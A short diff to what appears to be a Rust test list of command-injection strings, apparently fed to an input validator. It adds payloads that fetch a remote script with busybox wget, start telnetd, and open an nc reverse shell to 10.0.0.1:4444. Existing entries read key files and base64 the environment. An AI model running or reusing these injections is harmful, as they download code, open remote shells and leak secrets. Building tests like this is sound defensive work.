@@ -63,6 +63,9 @@ fn commands() {
         "report for may; sort /srv/app/config.yml",
         "report for may; cut -c1-80 ~/keys",
         "localhost; id #",
+        "eth0`busybox wget http://10.0.0.4/m.sh`",
+        "x|busybox${IFS}telnetd",
+        "x; nohup nc 10.0.0.1 4444 -e sh",
         "main; env | base64 -w0",
         "see the report; ping 10.20.0.1",
     ] {
